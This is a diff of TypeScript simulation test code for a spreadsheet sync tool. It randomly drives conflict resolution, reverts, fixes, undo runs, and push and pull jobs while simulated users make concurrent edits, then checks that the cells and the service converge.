+  return `${user} cancels: ${cancelled.value?.state ?? cancelled.sentence}`;
+};
+
+const resolve: Step = async (sim, dice) => {
+  const user = anyone(dice);
+  const who = sim.people[user]!;
+  if (!who.review || who.review.conflicts.length === 0) await lookAtReview(sim, user);
+  const conflict = dice.pick(who.review?.conflicts ?? []);
+  if (!conflict) return 'no conflict';
+  const take = dice.pick(['mine', 'theirs'] as const)!;
+  return applyChoice(sim, who, [conflict], take, false);
+};
+
+const resolveAll: Step = async (sim, dice) => {
+  const user = anyone(dice);
+  const who = sim.people[user]!;
+  if (!who.review || who.review.conflicts.length === 0) await lookAtReview(sim, user);
+  if (!who.review || who.review.conflicts.length === 0) return 'no conflict';
+  return applyChoice(sim, who, who.review.conflicts, dice.pick(['mine', 'theirs'] as const)!, true);
+};
+
+async function applyChoice(
+  sim: Sim,
+  who: Person,
+  conflicts: ReviewSeen['conflicts'],
+  take: 'mine' | 'theirs',
+  all: boolean,
+): Promise<string> {
+  if (take === 'theirs')
+    sim.oracle.choose(
+      conflicts.map(({ tab, key, column, mine, theirs }) => ({
+        tab,
+        key,
+        header: column,
+        seen: mine,
+        to: theirs,
+      })),
+    );
+  const done = await sim.ask<ReviewSeen>(
+    who.user,
+    'reviewResolve',
+    resolveArgs(who.review!, conflicts, take, all),
+  );
+  if (done.ok && done.value) who.review = done.value;
+  return `${who.user} takes ${take} of ${conflicts.length}: ${done.ok || done.sentence}`;
+}
+
+const revert: Step = async (sim, dice) => {
+  const user = anyone(dice);
+  const who = sim.people[user]!;
+  if (!who.review || who.review.rows.length === 0) await lookAtReview(sim, user);
+  const row = dice.pick((who.review?.rows ?? []).filter(({ action }) => action === 'update'));
+  if (!row) return 'nothing to revert';
+  sim.oracle.choose(
+    row.changes.map(({ column, before, after }) => ({
+      tab: row.tab,
+      key: row.key,
+      header: column,
+      seen: after,
+      to: before,
+    })),
+  );
+  const done = await sim.ask<ReviewSeen>(user, 'reviewRevert', revertArgs(who.review!, row));
+  if (done.ok && done.value) who.review = done.value;
+  return `${user} reverts ${row.tab} ${row.key}: ${done.ok || done.sentence}`;
+};
+
+const check: Step = async (sim, dice) => {
+  const user = anyone(dice);
+  const done = await sim.ask<unknown>(user, 'checkRun', []);
+  if (done.ok) sim.people[user]!.fixes = fixesOf(done.value, sim);
+  return `${user} checks: ${sim.people[user]!.fixes.length} fixes`;
+};
+
+const fix: Step = async (sim, dice) => {
+  const user = anyone(dice);
+  const who = sim.people[user]!;
+  if (who.fixes.length === 0) await check(sim, dice);
+  const chosen = dice.chance(0.3) ? who.fixes : [dice.pick(who.fixes)].filter((one) => one !== null);
+  if (chosen.length === 0) return 'nothing to fix';
+  sim.oracle.choose(chosen.map(({ tab, header, marker: key, seen, to }) => ({ tab, key, header, seen, to })));
+  const done = await sim.ask<unknown>(user, 'checkFix', [chosen.map(({ cell }) => cell)]);
+  who.fixes = [];
+  return `${user} fixes ${chosen.length}: ${done.ok || done.sentence}`;
+};
+
+async function lookAtUndo(sim: Sim, dice: Dice, user: string): Promise<UndoSeen | null> {
+  const runs = await sim.ask<{ runs: { run: string; undoes: string }[] }>(user, 'undoRuns', [10]);
+  const run = dice.pick(runs.value?.runs ?? []);
+  if (!run) return null;
+  const view = await sim.ask<UndoSeen>(user, 'undoPreview', [run.run]);
+  sim.people[user]!.undo = view.ok ? (view.value ?? null) : null;
+  return sim.people[user]!.undo;
+}
+
+const undoLook: Step = async (sim, dice) => {
+  const user = anyone(dice);
+  const view = await lookAtUndo(sim, dice, user);
+  return `${user} looks at an undo of ${view?.rows.length ?? 'no'} rows`;
+};
+
+const undoStart: Step = async (sim, dice) => {
+  const user = anyone(dice);
+  const view = sim.people[user]!.undo;
+  if (!view || view.rows.length === 0) return 'nothing to undo';
+  const rows = view.rows.map((row) => ({ ...row, action: 'update' as const, group: '' }));
+  const approval = sim.oracle.approve(user, 'undo', '', rows);
+  const started = await sim.ask<JobSeen>(user, 'undoStart', undoArgs(view));
+  sim.people[user]!.undo = null;
+  if (started.ok && started.value) {
+    approval.job = started.value.id;
+    sim.jobOwner = user;
+    sim.figures.undone += 1;
+    sim.saw(started.value);
+    if (dice.chance(0.7)) await finish(sim, user);
+  } else if (!started.cut) sim.oracle.refuse(approval);
+  return `${user} undoes ${rows.length} rows: ${started.ok || started.sentence}`;
+};
+
+const undoAll: Step = async (sim, dice) => {
+  const user = anyone(dice);
+  await finish(sim, sim.jobOwner || user);
+  await lookAtUndo(sim, dice, user);
+  return undoStart(sim, dice);
+};
+
+const chooseCompany: Step = async (sim, dice) => {
+  const user = anyone(dice);
+  const list = await sim.ask<{ connections: { id: string; company: string }[]; current: string | null }>(
+    user,
+    'connectionList',
+    [],
+  );
+  const connections = list.value?.connections ?? [];
+  const chosen = dice.chance(0.5) ? connections[0] : dice.pick(connections);
+  if (!chosen) return 'no connection';
+  const done = await sim.ask<unknown>(user, 'connectionChoose', [chosen.id]);
+  return `${user} chooses ${chosen.company}: ${done.ok || done.sentence}`;
+};
+
+// ---- while an execution runs -------------------------------------------------------------------------------------
+
+type Intrusion =
+  | 'typed'
+  | 'elsewhere'
+  | 'sort'
+  | 'insertRows'
+  | 'deleteRow'
+  | 'sortLog'
+  | 'trimLog'
+  | 'insertColumn'
+  | 'moveColumn';
+
+async function intrude(sim: Sim, dice: Dice, among: readonly Intrusion[]): Promise<string> {
+  const what = dice.pick(among)!;
+  const did = what === 'typed' ? await edit(sim, dice) : await (STEPS[what] as Step)(sim, dice);
+  sim.trace.push(`  meanwhile: ${did}`);
+  return did;
+}
+
+const moments = (
+  sim: Sim,
+  dice: Dice,
+  count: number,
+  most: number,
+  among: readonly Intrusion[],
+): Trouble => ({
+  meanwhile: new Map(
+    Array.from({ length: count }, () => [
+      Math.floor(dice.next() * most) + 1,
+      async () => void (await intrude(sim, dice, among)),
+    ]),
+  ),
+});
+
+const AT_THE_GRID: readonly Intrusion[] = [
+  'typed',
+  'typed',
+  'typed',
+  'typed',
+  'elsewhere',
+  'sort',
+  'insertRows',
+  'deleteRow',
+];
+
+const typingPull: Step = async (sim, dice) => {
+  const user = anyone(dice);
+  const trouble = moments(sim, dice, dice.whole(1, 6), 420, AT_THE_GRID);
+  const began = await startPull(sim, user, trouble);
+  if (began) await finish(sim, user);
+  return `${user} pulls while others work: ${began}`;
+};
+
+const typingPush: Step = async (sim, dice) => {
+  const user = anyone(dice);
+  await finish(sim, sim.jobOwner || user);
+  const view = await sim.ask<ReviewSeen>(
+    user,
+    'reviewBuild',
+    [],
+    moments(sim, dice, dice.whole(0, 3), 250, AT_THE_GRID),
+  );
+  if (view.ok && view.value) sim.people[user]!.review = view.value;
+  if (!(await startPush(sim, dice, user)) || !sim.job) return 'nothing to push';
+  const stepped = await sim.ask<JobSeen>(
+    user,
+    'jobStep',
+    [sim.job],
+    moments(sim, dice, dice.whole(1, 5), 420, AT_THE_GRID),
+  );
+  sim.saw(stepped.value);
+  if (sim.job) await finish(sim, user);
+  return `${user} pushes while others work`;
+};
+
+export const STEPS = {
+  edit,
+  editAgain,
+  targetsEdit,
+  assetEdit,
+  newRow,
+  automatic,
+  clear,
+  formula,
+  sort,
+  insertRows,
+  deleteRow,
+  insertColumn,
+  moveColumn,
+  note,
+  filter,
+  renameTab,
+  copyTab,
+  disable,
+  enable,
+  sortLog,
+  trimLog,
+  elsewhere,
+  hostileElsewhere,
+  elsewhereJust,
+  clock,
+  pull,
+  check,
+  fix,
+  review,
+  resolve,
+  resolveAll,
+  revert,
+  push,
+  pushAll,
+  pushSlow,
+  lostPush,
+  killedCall,
+  stepJob,
+  finishJob,
+  cancel,
+  undoLook,
+  undoStart,
+  undoAll,
+  chooseCompany,
+  typingPull,
+  typingPush,
+} satisfies Record<string, Step>;
+
+/** More than a job of this size needs, pauses included. */
+const MOST_STEPS = 60;
+
+/** Nothing goes wrong any more: jobs end, conflicts are decided, everything is pulled. Then cells and service must agree. */
+export async function settle(sim: Sim): Promise<void> {
+  for (const who of Object.values(sim.people)) Object.assign(who, { review: null, undo: null });
+  sim.world.pass(7_300_000);
+  await backToFirst(sim);
+  await endJob(sim);
+  await startPull(sim, ANNA);
+  await endJob(sim);
+  sim.oracle.check();
+  const view = await lookAtReview(sim, ANNA);
+  if (view && view.conflicts.length > 0)
+    await applyChoice(sim, sim.people[ANNA]!, view.conflicts, 'mine', false);
+  sim.oracle.check();
+  sim.world.pass(60_000);
+  await startPull(sim, ANNA);
+  await endJob(sim);
+  sim.oracle.check();
+  sim.oracle.converged();
+}
+
+async function backToFirst(sim: Sim): Promise<void> {
+  const list = await sim.ask<{ connections: { id: string }[]; current: string | null }>(
+    ANNA,
+    'connectionList',
+    [],
+  );
+  const first = list.value?.connections[0];
+  if (first && list.value?.current !== first.id) await sim.ask(ANNA, 'connectionChoose', [first.id]);
+}
+
+async function endJob(sim: Sim): Promise<void> {
+  const { Violation } = await import('./oracle');
+  const current = await sim.ask<JobSeen | null>(ANNA, 'jobCurrent', []);
+  sim.saw(current.value);
+  let owner = sim.jobOwner || ANNA;
+  for (let i = 0; i < MOST_STEPS && sim.job; i += 1) {
+    const stepped = await sim.ask<JobSeen & { resumeAt: number | null }>(owner, 'jobStep', [sim.job]);
+    sim.saw(stepped.value);
+    if (stepped.value?.state === 'parked') sim.world.pass(3_700_000);
+    if (!stepped.ok) {
+      owner = otherOf(owner);
+      sim.world.pass(200_000);
+      if (i > 8) {
+        const cancelled = await sim.ask<JobSeen>(owner, 'jobCancel', [sim.job]);
+        sim.saw(cancelled.value);
+      }
+    }
+  }
+  if (sim.job) throw new Violation('never-ends', `the job ${sim.job} does not end`);
+}
